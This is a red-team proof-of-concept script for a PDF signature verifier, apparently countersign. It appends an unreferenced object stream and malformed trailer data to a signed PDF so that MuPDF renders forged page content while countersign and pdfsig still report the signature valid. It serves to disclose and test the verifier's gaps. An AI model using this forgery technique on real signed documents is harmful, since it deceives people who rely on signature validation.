# Red-team finding (2026-12-07, round 2): after any honest signed file, an update that only adds
# two unreferenced objects makes MuPDF render forged content on page 1 while countersign says
# VALID, level none, once MuPDF is made to rebuild the xref by scanning. Two triggers (MODE):
# - `size-ref` (default, no trailing bytes): the appended trailer says `/Size 2 0 R` (or
#   `/Size -1`). MuPDF: "trailer Size entry is indirect" -> repair. Nothing in
#   src/verify/diff (revision.rs check_trailer, appended.rs check) looks at the appended /Size.
# - `startxref-comment`: `startxref %c` then the offset on the next line; countersign's cursor
#   skips the comment (src/pdf/document.rs `find_startxref`), MuPDF: "cannot find startxref".
# - `padding`: 2000 newlines (or an 1100-byte % comment, or NULs) after the update's %%EOF.
# - The 32-byte bound on bytes after the end applies only when nothing was appended after
#   signing (src/verify/diff/mod.rs `judge`, the `later == 0` branch); with a later revision
#   any bytes may follow its %%EOF (appended::check scans them only for `N G obj` headers).
#   MuPDF looks for startxref in the last 1024 bytes only, then rebuilds the xref by scanning.
# - The added object stream holds a new copy of page 3 0 (/Contents -> the added stream).
#   No xref entry uses the stream, so src/verify/diff/appended.rs `check_object_streams` never
#   opens it and `check_object_headers` does not look inside streams; MuPDF's repair reads
#   every object stream it finds and its objects replace the ones found by scanning.
# pdfsig still lists Signature1 as valid; pdftotext still shows "Page 1".
# Usage: python3 redteam_later_revision_objstm_repair.py COUNTERSIGN CLASSIC_PDF OUTDIR [MODE]
#   then: countersign verify OUTDIR/forged.pdf --trust testdata/pki/root-ca.cert.pem --json
#         mutool draw -F txt OUTDIR/forged.pdf 1     (prints "Forged")
import re, subprocess, sys
exe, classic, out = sys.argv[1], sys.argv[2], sys.argv[3]
mode = sys.argv[4] if len(sys.argv) > 4 else "size-ref"
subprocess.run([exe, "sign", classic, "-o", f"{out}/signed.pdf"], check=True)
d = open(f"{out}/signed.pdf", "rb").read()
prev = int(re.findall(rb"startxref\s+(\d+)", d)[-1])
size = int(re.findall(rb"/Size (\d+)", d)[-1])
S, C = size, size + 1  # the added object stream and the added content stream
head = b"3 0 "
page = head + (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
               b"/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>" % C)
body = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
f = bytearray(d)
o1 = len(f)
f += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n" % (S, len(head), len(page))
f += page + b"\nendstream\nendobj\n"
o2 = len(f)
f += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (C, len(body), body)
x = len(f)
size_value = b"2 0 R" if mode == "size-ref" else b"%d" % (size + 2)
f += (b"xref\n%d 2\n%010d 00000 n \n%010d 00000 n \ntrailer\n<< /Size %s /Root 1 0 R /Prev %d >>\n"
      b"startxref\n%d\n%%%%EOF\n" % (S, o1, o2, size_value, prev, x))
if mode == "startxref-comment":
    f = f[:x] + f[x:].replace(b"startxref\n", b"startxref %c\n")
if mode == "padding":
    f += b"\n" * 2000
open(f"{out}/forged.pdf", "wb").write(f)
